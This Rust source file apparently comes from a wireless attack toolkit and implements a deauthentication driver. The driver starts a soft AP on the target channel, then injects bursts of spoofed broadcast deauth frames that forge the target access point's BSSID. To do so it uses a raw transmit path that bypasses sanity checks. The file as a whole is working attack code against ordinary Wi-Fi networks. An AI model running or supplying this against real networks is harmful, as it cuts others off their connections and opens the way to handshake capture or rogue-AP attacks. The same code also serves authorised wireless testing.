//! Deauthentication driver
//!
//! Brings up a throwaway soft AP on the target channel, then sends a fixed
//! number of bursts of spoofed deauthentication frames "from" the target AP.
//! There is no feedback; the burst is assumed to work if every transmit does.

use std::thread;
use std::time::{Duration, Instant};

use rand::Rng;
use serde::Serialize;

use crate::error::{Result, WirelessError};
use crate::frames::{DeauthFrame, DeauthReason};
use crate::network::NetworkDescriptor;
use crate::radio::{Radio, RadioMode, TxPath};
use crate::transport::{Marker, TransportHandle};

/// 802.11 sequence numbers are 12 bits
const SEQUENCE_MODULO: u16 = 4096;

#[derive(Debug, Clone)]
pub struct DeauthConfig {
    /// Number of bursts
    pub bursts: u32,
    /// Pause after each burst
    pub interval: Duration,
    /// Pause after the last burst before the AP is torn down
    pub settle: Duration,
    /// Name of the soft AP raised to get the radio onto the channel
    pub soft_ap_ssid: String,
}

impl Default for DeauthConfig {
    fn default() -> Self {
        Self {
            bursts: 10,
            interval: Duration::from_millis(300),
            settle: Duration::from_secs(1),
            soft_ap_ssid: "WiFi-test".to_string(),
        }
    }
}

/// Statistics from a deauth run
#[derive(Debug, Clone, Default, Serialize)]
pub struct DeauthStats {
    pub bursts: u32,
    pub frames_sent: u32,
    pub duration_ms: u64,
}

pub struct DeauthDriver {
    config: DeauthConfig,
}

impl DeauthDriver {
    pub fn new(config: DeauthConfig) -> Self {
        Self { config }
    }

    pub fn config(&self) -> &DeauthConfig {
        &self.config
    }

    /// Deauthenticate stations of `target`.
    ///
    /// Fails with [`WirelessError::RadioSetup`] when the soft AP cannot be
    /// started, and with the transmit error on the first failed frame.
    pub fn run<R: Radio>(
        &self,
        radio: &mut R,
        transport: &TransportHandle,
        target: &NetworkDescriptor,
    ) -> Result<DeauthStats> {
        let started = Instant::now();

        let soft_ap = radio
            .set_mode(RadioMode::AccessPoint)
            .and_then(|()| radio.start_soft_ap(&self.config.soft_ap_ssid, target.channel));
        if let Err(err) = soft_ap {
            tracing::error!(target: "bruce_wifi::wifi", channel = target.channel, "failed to start AP mode: {err}");
            restore_station(radio);
            return Err(WirelessError::radio_setup(format!(
                "failed to start AP mode on channel {}: {}",
                target.channel, err
            )));
        }

        transport.send_marker(Marker::deauth_start(target))?;
        tracing::info!(
            target: "bruce_wifi::wifi",
            ssid = %target.ssid,
            bssid = %target.bssid,
            channel = target.channel,
            bursts = self.config.bursts,
            "deauthenticating"
        );

        let mut stats = DeauthStats::default();
        let burst_result = self.send_bursts(radio, target, &mut stats);

        transport.send_marker(Marker::DeauthEnd)?;
        if burst_result.is_ok() {
            thread::sleep(self.config.settle);
        }

        if let Err(err) = radio.stop_soft_ap() {
            tracing::warn!(target: "bruce_wifi::wifi", "failed to stop soft AP: {err}");
        }
        restore_station(radio);

        stats.duration_ms = started.elapsed().as_millis() as u64;
        burst_result?;

        tracing::info!(
            target: "bruce_wifi::wifi",
            frames = stats.frames_sent,
            duration_ms = stats.duration_ms,
            "deauth complete"
        );
        Ok(stats)
    }

    fn send_bursts<R: Radio>(
        &self,
        radio: &mut R,
        target: &NetworkDescriptor,
        stats: &mut DeauthStats,
    ) -> Result<()> {
        let mut sequence: u16 = rand::thread_rng().gen_range(0..SEQUENCE_MODULO);
        let generic = DeauthFrame::generic(target.bssid).to_bytes();

        for burst in 0..self.config.bursts {
            let mut spoofed = DeauthFrame::broadcast(target.bssid, DeauthReason::AuthNoLongerValid);
            spoofed.set_sequence(sequence);
            sequence = (sequence + 1) % SEQUENCE_MODULO;

            radio
                .transmit_raw(&spoofed.to_bytes(), TxPath::SanityBypass)
                .map_err(|e| injection_failed(burst, e))?;
            stats.frames_sent += 1;

            radio
                .transmit_raw(&generic, TxPath::Standard)
                .map_err(|e| injection_failed(burst, e))?;
            stats.frames_sent += 1;

            stats.bursts += 1;
            thread::sleep(self.config.interval);
        }
        Ok(())
    }
}

impl Default for DeauthDriver {
    fn default() -> Self {
        Self::new(DeauthConfig::default())
    }
}

fn injection_failed(burst: u32, err: WirelessError) -> WirelessError {
    tracing::warn!(target: "bruce_wifi::wifi", burst, "deauth transmit failed: {err}");
    match err {
        WirelessError::Injection(_) => err,
        other => WirelessError::injection(other.to_string()),
    }
}

fn restore_station<R: Radio>(radio: &mut R) {
    if let Err(err) = radio.set_mode(RadioMode::Station) {
        tracing::warn!(target: "bruce_wifi::wifi", "failed to return to station mode: {err}");
    }
}
